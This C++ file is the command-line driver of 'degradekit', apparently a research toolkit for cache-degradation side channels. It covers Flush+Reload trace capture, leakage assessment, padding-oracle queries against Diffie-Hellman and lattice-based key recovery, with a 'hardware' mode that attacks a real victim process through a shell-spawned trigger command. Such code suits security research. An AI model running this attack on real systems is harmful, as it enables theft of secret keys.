#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iostream>
#include <sstream>

#include <CLI11.hpp>
#include <json.hpp>

#include "degradekit/attack.hpp"
#include "degradekit/dh.hpp"
#include "degradekit/hnp.hpp"
#include "degradekit/leakage.hpp"
#include "degradekit/probe.hpp"
#include "degradekit/victim.hpp"

extern char** environ;

namespace dk = degradekit;
namespace fs = std::filesystem;
using nlohmann::ordered_json;

namespace {

struct Global {
  std::uint64_t seed = 0;
  std::string group_fixture;
  std::string out_dir;
  std::string format = "json";
};

dk::dh::DhGroup load_group(const Global& g) {
  if (g.group_fixture.empty() || g.group_fixture == "rfc5114")
    return dk::dh::load_group(dk::dh::default_group_path());
  if (g.group_fixture == "safe256") return dk::dh::load_group(dk::dh::safe_prime_256_path());
  return dk::dh::load_group(g.group_fixture);
}

std::string read_file(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  dk::require(f.is_open(), dk::ErrorKind::Io, "cannot open '" + path + "'");
  std::ostringstream os;
  os << f.rdbuf();
  return os.str();
}

void write_artifact(const Global& g, const std::string& name, const std::string& body) {
  if (g.out_dir.empty()) return;
  fs::create_directories(g.out_dir);
  const auto path = fs::path(g.out_dir) / name;
  std::ofstream f(path, std::ios::binary);
  dk::require(f.is_open(), dk::ErrorKind::Io, "cannot write '" + path.string() + "'");
  f << body;
}

// Prints the chosen format and stores both next to each other under --out-dir.
void emit(const Global& g, const std::string& stem, const std::string& csv, const std::string& json) {
  write_artifact(g, stem + ".csv", csv);
  write_artifact(g, stem + ".json", json);
  std::cout << (g.format == "csv" ? csv : json);
}

std::string kv_csv(const ordered_json& j) {
  std::string out = "key,value\n";
  for (const auto& [k, v] : j.items())
    if (!v.is_structured()) out += k + "," + (v.is_string() ? v.get<std::string>() : v.dump()) + "\n";
  return out;
}

void add_reduction(CLI::App* sub, dk::lattice::ReductionParams& p, std::string& algo) {
  sub->add_option("--algorithm", algo, "lll or bkz")->check(CLI::IsMember({"lll", "bkz"}));
  sub->add_option("--delta", p.delta, "Lovasz parameter");
  sub->add_option("--beta", p.beta, "BKZ block size");
  sub->add_option("--max-tours", p.max_tours, "BKZ tour limit");
  sub->add_flag("!--no-certify", p.certify, "skip the final exact LLL pass");
}

void finish_reduction(dk::lattice::ReductionParams& p, const std::string& algo) {
  p.algorithm = algo == "bkz" ? dk::lattice::ReductionAlgorithm::BKZ : dk::lattice::ReductionAlgorithm::LLL;
  p.validate();
}

int cmd_topology(const Global& g) {
  const auto topo = dk::probe::discover_topology();
  const auto caps = dk::probe::detect_capabilities();
  ordered_json j;
  j["cores"] = ordered_json::array();
  std::string csv = "logical_id,physical_id\n";
  for (const auto& c : topo.cores()) {
    j["cores"].push_back({{"logical_id", c.logical_id}, {"physical_id", c.physical_id}});
    csv += std::to_string(c.logical_id) + "," + std::to_string(c.physical_id) + "\n";
  }
  j["sibling_pairs"] = topo.sibling_pairs();
  j["os_sibling_lists"] = dk::probe::os_sibling_lists();
  j["capabilities"] = {{"x86_64", caps.x86_64},           {"clflush", caps.clflush},
                       {"invariant_tsc", caps.invariant_tsc}, {"smt", caps.smt},
                       {"writable_exec", caps.writable_exec}, {"physical_cores", caps.physical_cores},
                       {"logical_cores", caps.logical_cores}};
  emit(g, "topology", csv, j.dump(2) + "\n");
  return 0;
}

std::string histogram_csv(const dk::probe::Histogram& h) {
  std::string out = "latency,count\n";
  for (std::size_t i = 0; i < h.counts.size(); ++i)
    if (h.counts[i]) out += std::to_string(i) + "," + std::to_string(h.counts[i]) + "\n";
  return out;
}

int cmd_calibrate(const Global& g, const std::string& target, std::size_t samples) {
  try {
    const auto c = dk::probe::calibrate_threshold(dk::probe::CacheLineTarget::parse(target), samples);
    write_artifact(g, "hits.csv", histogram_csv(c.hits));
    write_artifact(g, "misses.csv", histogram_csv(c.misses));
    ordered_json j{{"hit_peak", c.hit_peak}, {"miss_peak", c.miss_peak}, {"suggested_t", c.suggested_t}};
    emit(g, "calibration", kv_csv(j), j.dump(2) + "\n");
    return 0;
  } catch (const dk::probe::CalibrationAmbiguous& e) {
    write_artifact(g, "hits.csv", histogram_csv(e.hits));
    write_artifact(g, "misses.csv", histogram_csv(e.misses));
    throw;
  }
}

struct BenchOpts {
  std::string victim = "loop";
  std::uint64_t iterations = 1u << 16;
  std::uint32_t line = 0;
  std::uint32_t cnt = 2048;
  std::uint32_t reps = 10;
  std::vector<std::string> strategies{"nodegrade", "degrade", "hyperdegrade", "contention"};
  std::string work_dir;
};

int cmd_bench(const Global& g, const BenchOpts& o) {
  const auto spec = o.victim == "pair" ? dk::victim::VictimSpec::pair(o.cnt)
                                       : dk::victim::VictimSpec::single_line(o.iterations, o.line);
  fs::path dir = o.work_dir.empty() ? fs::temp_directory_path() / ("degradekit-bench-" + std::to_string(getpid()))
                                    : fs::path(o.work_dir);
  fs::create_directories(dir);
  auto victim = dk::victim::build_victim(spec, dir);
  const auto target = o.victim == "pair" ? victim.middle_line(0) : victim.hot_line();
  std::vector<dk::victim::SlowdownRow> rows;
  ordered_json runs = ordered_json::array();
  for (const auto& name : o.strategies) {
    const auto s = dk::parse_strategy(name);
    const auto st = dk::victim::run_benchmark(victim, s, target, o.reps);
    rows.push_back({o.victim, s, st.mean, st.rsd, 1});
    runs.push_back({{"strategy", name}, {"cycles", st.cycles}, {"unstable", st.unstable},
                    {"backend", st.backend}});
  }
  auto rep = dk::victim::SlowdownReport::from_rows(rows);
  ordered_json j;
  j["target"] = target.str();
  j["rows"] = ordered_json::array();
  for (const auto& r : rep.rows)
    j["rows"].push_back({{"benchmark", r.benchmark}, {"strategy", dk::to_string(r.strategy)},
                         {"cycles_mean", r.cycles_mean}, {"cycles_rsd", r.cycles_rsd}, {"ratio", r.ratio}});
  j["runs"] = std::move(runs);
  emit(g, "bench", rep.csv(), j.dump(2) + "\n");
  return 0;
}

struct CaptureOpts {
  std::string target;
  std::uint32_t r = 256;
  std::size_t samples = 5000;
  std::size_t count = 1;
  std::string strategy = "nodegrade";
  std::optional<int> label;
  std::string out;
};

int cmd_capture(const Global& g, const CaptureOpts& o) {
  const auto tgt = dk::probe::CacheLineTarget::parse(o.target);
  const auto strategy = dk::parse_strategy(o.strategy);
  dk::trace::TraceSet set;
  for (std::size_t i = 0; i < o.count; ++i)
    set.add(dk::probe::flush_reload_capture(tgt, o.r, o.samples, strategy, o.label,
                                            "capture-" + std::to_string(i)));
  dk::trace::save_traces(set, o.out);
  ordered_json j{{"out", o.out}, {"traces", set.size()}, {"samples", o.samples}, {"wait_r", o.r}};
  emit(g, "capture", kv_csv(j), j.dump(2) + "\n");
  return 0;
}

struct AssessOpts {
  std::vector<std::string> traces;
  std::string metric = "nicv";
  std::vector<double> thresholds{std::begin(dk::leakage::kPoiThresholds),
                                 std::end(dk::leakage::kPoiThresholds)};
  bool simulate = false;
  std::size_t length = 200;
  std::size_t leaky = 12;
  double noise = 25;
};

int cmd_assess(const Global& g, const AssessOpts& o) {
  const auto metric = dk::leakage::parse_metric(o.metric);
  std::map<dk::DegradeStrategy, dk::leakage::NicvCurve> curves;
  if (o.simulate) {
    auto base = dk::leakage::hit_pattern(o.length, o.leaky, 60, 280, g.seed + 1);
    const std::pair<dk::DegradeStrategy, std::uint32_t> stretch[] = {
        {dk::DegradeStrategy::NoDegrade, 1}, {dk::DegradeStrategy::Degrade, 4},
        {dk::DegradeStrategy::HyperDegrade, 16}};
    for (const auto& [s, f] : stretch) {
      base.strategy = s;
      curves[s] = dk::leakage::nicv(dk::leakage::simulate_stretched_traces(base, f, o.noise, g.seed));
    }
  } else {
    dk::require(!o.traces.empty(), dk::ErrorKind::Validation, "assess needs --traces or --simulate");
    for (const auto& path : o.traces) {
      const auto set = dk::trace::load_traces(path);
      dk::require(!curves.count(set.strategy()), dk::ErrorKind::Validation,
                  std::string("two trace files for strategy ") + dk::to_string(set.strategy()));
      curves[set.strategy()] = dk::leakage::nicv(set);
    }
  }
  for (const auto& [s, c] : curves) write_artifact(g, std::string("nicv_") + dk::to_string(s) + ".csv",
                                                   dk::leakage::nicv_csv(c));
  const auto table = dk::leakage::poi_table(curves, o.thresholds, metric);
  std::string csv = "threshold,strategy,count,ratios\n";
  for (const auto& r : table) {
    std::ostringstream os;
    os << r.threshold << ',' << dk::to_string(r.strategy) << ',' << r.count << ',';
    bool first = true;
    for (const auto& [ref, v] : r.ratios) {
      os << (first ? "" : ";") << ref << ':' << v;
      first = false;
    }
    csv += os.str() + "\n";
  }
  emit(g, "poi", csv, dk::leakage::poi_json(table));
  return 0;
}

struct SweepOpts {
  std::vector<std::string> pad, nopad;
  bool simulate = false;
  dk::attack::ParamGrid grid;
  std::optional<double> pad_prob;
  std::optional<std::uint64_t> d_required;
  std::size_t ell = 8;
  double confidence = 1.35;
  std::string closeness = "at-least-two";
  dk::attack::SweepFixture fixture;
};

std::uint64_t required_d(const dk::dh::DhGroup& group, std::optional<std::uint64_t> d, double c,
                         std::size_t ell) {
  return d.value_or(dk::hnp::dimension_heuristic(c, dk::bit_length(group.p), ell));
}

int cmd_sweep(const Global& g, SweepOpts o) {
  const auto group = load_group(g);
  const double pad_prob = o.pad_prob.value_or(dk::dh::pad_probability(group));
  const auto d_req = required_d(group, o.d_required, o.confidence, o.ell);
  std::vector<dk::attack::LabeledTraces> corpus;
  if (o.simulate) {
    for (std::size_t i = 0; i < o.grid.r.size(); ++i) {
      auto fx = o.fixture;
      fx.wait_r = o.grid.r[i];
      fx.seed = g.seed * 1000 + i + 1;
      corpus.push_back(dk::attack::simulate_sweep_corpus(fx));
    }
  } else {
    dk::require(!o.pad.empty() && o.pad.size() == o.nopad.size(), dk::ErrorKind::Validation,
                "sweep needs matching --pad and --nopad file lists, or --simulate");
    for (std::size_t i = 0; i < o.pad.size(); ++i)
      corpus.push_back({dk::trace::load_traces(o.pad[i]), dk::trace::load_traces(o.nopad[i])});
  }
  const auto rep = dk::attack::sweep(corpus, o.grid, pad_prob, d_req, dk::attack::parse_closeness(o.closeness));
  write_artifact(g, "histogram.csv", dk::attack::histogram_csv(rep));
  emit(g, "sweep", dk::attack::sweep_csv(rep), dk::attack::sweep_json(rep));
  return 0;
}

int cmd_estimate(const Global& g, double tp, std::optional<double> pad, std::optional<std::uint64_t> d,
                 double c, std::size_t ell) {
  const auto group = load_group(g);
  const double pad_prob = pad.value_or(dk::dh::pad_probability(group));
  const auto d_req = required_d(group, d, c, ell);
  ordered_json j{{"tp_rate", tp}, {"pad_prob", pad_prob}, {"d_required", d_req},
                 {"est_traces", dk::attack::estimate_traces(tp, pad_prob, d_req)}};
  emit(g, "estimate", kv_csv(j), j.dump(2) + "\n");
  return 0;
}

// Runs `cmd <point-hex>` through the shell without waiting; the previous
// invocation is reaped first so captures never overlap two decryptions.
class Trigger {
 public:
  explicit Trigger(std::string cmd) : cmd_(std::move(cmd)) {}
  ~Trigger() { reap(); }
  void operator()(const dk::dh::ChosenQuery& q) {
    reap();
    const std::string line = cmd_ + " " + dk::to_hex(q.point);
    const char* argv[] = {"sh", "-c", line.c_str(), nullptr};
    dk::require(posix_spawn(&pid_, "/bin/sh", nullptr, nullptr, const_cast<char**>(argv), environ) == 0,
                dk::ErrorKind::Orchestration, "cannot start the trigger command");
  }

 private:
  void reap() {
    if (pid_ > 0) waitpid(pid_, nullptr, 0);
    pid_ = -1;
  }
  std::string cmd_;
  pid_t pid_ = -1;
};

struct AttackOpts {
  std::string mode = "simulate";
  dk::attack::AttackRunConfig cfg;
  std::string algo = "lll";
  bool no_vote = false;
  std::string closeness = "at-least-two";
  // hardware
  std::string target, trigger_cmd, victim_pub, target_pub, strategy = "hyperdegrade";
  std::size_t samples = 5000;
};

int cmd_attack(const Global& g, AttackOpts o) {
  auto& cfg = o.cfg;
  cfg.group = load_group(g);
  cfg.seed = g.seed;
  cfg.oracle.seed = g.seed;
  cfg.voting = !o.no_vote;
  finish_reduction(cfg.reduction, o.algo);
  std::shared_ptr<Trigger> trigger;
  if (o.mode == "hardware") {
    cfg.mode = dk::attack::Mode::Hardware;
    dk::require(!o.target.empty() && !o.trigger_cmd.empty() && !o.victim_pub.empty() && !o.target_pub.empty(),
                dk::ErrorKind::Validation,
                "hardware mode needs --target, --trigger-cmd, --victim-pub and --target-pub");
    cfg.g_a = dk::from_hex(o.victim_pub);
    cfg.g_b = dk::from_hex(o.target_pub);
    trigger = std::make_shared<Trigger>(o.trigger_cmd);
    cfg.observer = dk::attack::capture_observer(
        [trigger](const dk::dh::ChosenQuery& q) { (*trigger)(q); },
        dk::probe::CacheLineTarget::parse(o.target), cfg.params, o.samples,
        dk::parse_strategy(o.strategy), dk::attack::parse_closeness(o.closeness));
  }
  try {
    const auto res = dk::attack::run_attack(cfg);
    write_artifact(g, "transcript.jsonl", dk::dh::transcript_jsonl(res.transcript));
    write_artifact(g, "instance.json", dk::hnp::instance_json(res.instance));
    const auto json = dk::attack::attack_json(res);
    emit(g, "attack", kv_csv(ordered_json::parse(json)), json);
    if (!res.success) {
      std::cerr << "error: " << res.advice << "\n";
      return dk::exit_code(dk::ErrorKind::Lattice);
    }
    return 0;
  } catch (const dk::attack::BudgetExhausted& e) {
    const auto jsonl = dk::dh::transcript_jsonl(e.partial.transcript);
    if (g.out_dir.empty())
      std::cout << jsonl;
    else
      write_artifact(g, "transcript.jsonl", jsonl);
    throw;
  }
}

int cmd_solve(const Global& g, const std::string& instance, dk::lattice::ReductionParams p,
              const std::string& algo) {
  finish_reduction(p, algo);
  const auto inst = dk::hnp::load_instance(instance);
  dk::hnp::SolveParams sp;
  sp.reduction = p;
  const auto res = dk::hnp::solve(inst, sp);
  const auto json = dk::hnp::result_json(res);
  emit(g, "solve", kv_csv(ordered_json::parse(json)), json);
  if (!res.alpha) {
    std::cerr << "error: no candidate satisfied every constraint; add samples or raise the BKZ block size\n";
    return dk::exit_code(dk::ErrorKind::Lattice);
  }
  return 0;
}

int cmd_report(const Global& g, const std::string& sweep_path, std::string ratios) {
  ordered_json j = ordered_json::object();
  std::string csv;
  if (!sweep_path.empty()) {
    const auto rep = dk::attack::parse_sweep_json(read_file(sweep_path));
    csv = dk::attack::histogram_csv(rep);
    write_artifact(g, "histogram.csv", csv);
    j["best"] = ordered_json::object();
    for (const auto& [s, b] : rep.best()) {
      if (!b) {
        j["best"][dk::to_string(s)] = nullptr;
        continue;
      }
      j["best"][dk::to_string(s)] = {{"r", b->params.r}, {"t", b->params.t}, {"d", b->params.d},
                                     {"tp_rate", b->tp_rate}, {"est_traces", *b->est_traces}};
    }
    ordered_json h = ordered_json::object();
    for (auto s : rep.strategies()) {
      auto& arr = h[dk::to_string(s)] = ordered_json::array();
      for (const auto& p : rep.histogram(s)) arr.push_back({{"trace_budget", p.trace_budget}, {"count", p.param_sets}});
    }
    j["histogram"] = std::move(h);
  }
  if (!ratios.empty() || sweep_path.empty()) {
    if (ratios.empty()) ratios = dk::dh::data_dir() + "/beebs_slowdown.csv";
    std::string agg_csv = "family,strategy,median,min,max,mean,stdev\n";
    ordered_json agg = ordered_json::array();
    for (const auto& [key, rows] : dk::victim::load_ratio_fixture(ratios)) {
      const auto a = dk::victim::aggregate_stats(rows);
      char buf[256];
      std::snprintf(buf, sizeof buf, "%s,%s,%.1f,%.1f,%.1f,%.1f,%.1f\n", key.first.c_str(),
                    dk::to_string(key.second), a.median, a.min, a.max, a.mean, a.stdev);
      agg_csv += buf;
      agg.push_back({{"family", key.first}, {"strategy", dk::to_string(key.second)}, {"median", a.median},
                     {"min", a.min}, {"max", a.max}, {"mean", a.mean}, {"stdev", a.stdev}});
    }
    write_artifact(g, "aggregates.csv", agg_csv);
    j["aggregates"] = std::move(agg);
    csv += agg_csv;
  }
  write_artifact(g, "report.json", j.dump(2) + "\n");
  std::cout << (g.format == "csv" ? csv : j.dump(2) + "\n");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"degradekit: cache degradation, leakage assessment and padding-oracle key recovery"};
  app.require_subcommand(1);
  app.fallthrough();
  Global g;
  app.add_option("--seed", g.seed, "seed for every randomized step");
  app.add_option("--group-fixture", g.group_fixture, "DH group JSON, or rfc5114 | safe256");
  app.add_option("--out-dir", g.out_dir, "directory receiving the output artifacts");
  app.add_option("--format", g.format, "stdout format")->check(CLI::IsMember({"csv", "json"}));

  std::function<int()> run;

  auto* topo = app.add_subcommand("topology", "logical/physical core map and host capabilities");
  topo->callback([&] { run = [&] { return cmd_topology(g); }; });

  std::string cal_target;
  std::size_t cal_samples = 20000;
  auto* cal = app.add_subcommand("calibrate", "hit/miss latency histograms and a threshold");
  cal->add_option("--target", cal_target, "file:offset of a cache line")->required();
  cal->add_option("--samples", cal_samples);
  cal->callback([&] { run = [&] { return cmd_calibrate(g, cal_target, cal_samples); }; });

  BenchOpts bo;
  auto* bench = app.add_subcommand("bench", "victim slowdown under each degrade strategy");
  bench->add_option("--victim", bo.victim)->check(CLI::IsMember({"loop", "pair"}));
  bench->add_option("--iterations", bo.iterations);
  bench->add_option("--line", bo.line);
  bench->add_option("--cnt", bo.cnt);
  bench->add_option("--reps", bo.reps);
  bench->add_option("--strategy", bo.strategies);
  bench->add_option("--work-dir", bo.work_dir);
  bench->callback([&] { run = [&] { return cmd_bench(g, bo); }; });

  CaptureOpts co;
  auto* cap = app.add_subcommand("capture", "Flush+Reload traces of one cache line");
  cap->add_option("--target", co.target)->required();
  cap->add_option("--r", co.r, "wait-loop iterations");
  cap->add_option("--samples", co.samples);
  cap->add_option("--count", co.count);
  cap->add_option("--strategy", co.strategy, "strategy recorded in the metadata");
  cap->add_option("--label", co.label);
  cap->add_option("--out", co.out)->required();
  cap->callback([&] { run = [&] { return cmd_capture(g, co); }; });

  AssessOpts ao;
  auto* as = app.add_subcommand("assess", "NICV curves and POI counts");
  as->add_option("--traces", ao.traces, "labelled trace files, one per strategy");
  as->add_option("--metric", ao.metric)->check(CLI::IsMember({"nicv", "maxcorr"}));
  as->add_option("--thresholds", ao.thresholds);
  as->add_flag("--simulate", ao.simulate, "use stretched synthetic traces");
  as->add_option("--length", ao.length);
  as->add_option("--leaky", ao.leaky);
  as->add_option("--noise", ao.noise);
  as->callback([&] { run = [&] { return cmd_assess(g, ao); }; });

  SweepOpts so;
  auto* sw = app.add_subcommand("sweep", "TP/FP rates over the (r, t, d) grid");
  sw->add_option("--pad", so.pad, "trace files captured with a padding key pair");
  sw->add_option("--nopad", so.nopad, "matching trace files without padding");
  sw->add_flag("--simulate", so.simulate, "synthetic corpus with embedded hit pairs");
  sw->add_option("--r", so.grid.r);
  sw->add_option("--t", so.grid.t);
  sw->add_option("--d", so.grid.d);
  sw->add_option("--pad-prob", so.pad_prob);
  sw->add_option("--d-required", so.d_required);
  sw->add_option("--ell", so.ell);
  sw->add_option("--closeness", so.closeness)->check(CLI::IsMember({"at-least-two", "exactly-two"}));
  sw->add_option("--traces", so.fixture.traces, "simulated traces per class");
  sw->add_option("--close-pairs", so.fixture.close_pairs, "simulated pad traces with a close hit pair");
  sw->add_option("--nopad-far-pairs", so.fixture.nopad_far_pairs);
  sw->add_option("--sim-strategy", [&](const CLI::results_t& r) {
    so.fixture.strategy = dk::parse_strategy(r.front());
    return true;
  });
  sw->callback([&] { run = [&] { return cmd_sweep(g, so); }; });

  double est_tp = 1;
  std::optional<double> est_pad;
  std::optional<std::uint64_t> est_d;
  std::size_t est_ell = 8;
  double est_c = 1.35;
  auto* est = app.add_subcommand("estimate", "traces needed for d_required accepted samples");
  est->add_option("--tp", est_tp)->required();
  est->add_option("--pad-prob", est_pad, "default: the group's exact probability");
  est->add_option("--d-required", est_d);
  est->add_option("--ell", est_ell);
  est->add_option("--confidence", est_c);
  est->callback([&] { run = [&] { return cmd_estimate(g, est_tp, est_pad, est_d, est_c, est_ell); }; });

  AttackOpts ko;
  auto* at = app.add_subcommand("attack", "chosen-query padding attack and lattice key recovery");
  at->add_option("--mode", ko.mode)->check(CLI::IsMember({"simulate", "hardware"}));
  at->add_option("--tp", ko.cfg.oracle.tp_rate);
  at->add_option("--fp", ko.cfg.oracle.fp_rate);
  at->add_option("--retries", ko.cfg.oracle.retries);
  at->add_option("--vote-pass", ko.cfg.oracle.vote_pass);
  at->add_flag("--no-vote", ko.no_vote, "accept every positive detection without voting");
  at->add_option("--d-required", ko.cfg.d_required);
  at->add_option("--collect", ko.cfg.collect, "accepted samples gathered before ranking");
  at->add_option("--ell", ko.cfg.ell);
  at->add_option("--confidence", ko.cfg.confidence);
  at->add_option("--budget", ko.cfg.query_budget, "maximum number of queries");
  at->add_option("--r", ko.cfg.params.r);
  at->add_option("--t", ko.cfg.params.t);
  at->add_option("--d", ko.cfg.params.d);
  at->add_option("--closeness", ko.closeness)->check(CLI::IsMember({"at-least-two", "exactly-two"}));
  at->add_option("--target", ko.target, "hardware: file:offset of the padding-branch line");
  at->add_option("--trigger-cmd", ko.trigger_cmd, "hardware: command run with the query point in hex");
  at->add_option("--victim-pub", ko.victim_pub, "hardware: victim static public value (hex)");
  at->add_option("--target-pub", ko.target_pub, "hardware: public value of the target session (hex)");
  at->add_option("--samples", ko.samples, "hardware: samples per capture");
  at->add_option("--strategy", ko.strategy, "hardware: strategy recorded with captures");
  add_reduction(at, ko.cfg.reduction, ko.algo);
  at->callback([&] { run = [&] { return cmd_attack(g, ko); }; });

  std::string sv_instance, sv_algo = "lll";
  dk::lattice::ReductionParams sv_params;
  auto* sv = app.add_subcommand("solve", "lattice key recovery on an instance file");
  sv->add_option("--instance", sv_instance)->required();
  add_reduction(sv, sv_params, sv_algo);
  sv->callback([&] { run = [&] { return cmd_solve(g, sv_instance, sv_params, sv_algo); }; });

  std::string rp_sweep, rp_ratios;
  auto* rp = app.add_subcommand("report", "histogram and aggregate tables from stored results");
  rp->add_option("--sweep", rp_sweep, "sweep.json from the sweep command");
  rp->add_option("--ratios", rp_ratios, "per-benchmark slowdown ratio CSV");
  rp->callback([&] { run = [&] { return cmd_report(g, rp_sweep, rp_ratios); }; });

  try {
    app.parse(argc, argv);
  } catch (const CLI::ParseError& e) {
    const int code = app.exit(e);
    return code == 0 ? 0 : dk::exit_code(dk::ErrorKind::Validation);
  }
  try {
    return run();
  } catch (const dk::Error& e) {
    std::cerr << "error (" << dk::to_string(e.kind()) << "): " << e.what() << "\n";
    return dk::exit_code(e.kind());
  } catch (const std::exception& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  }
}
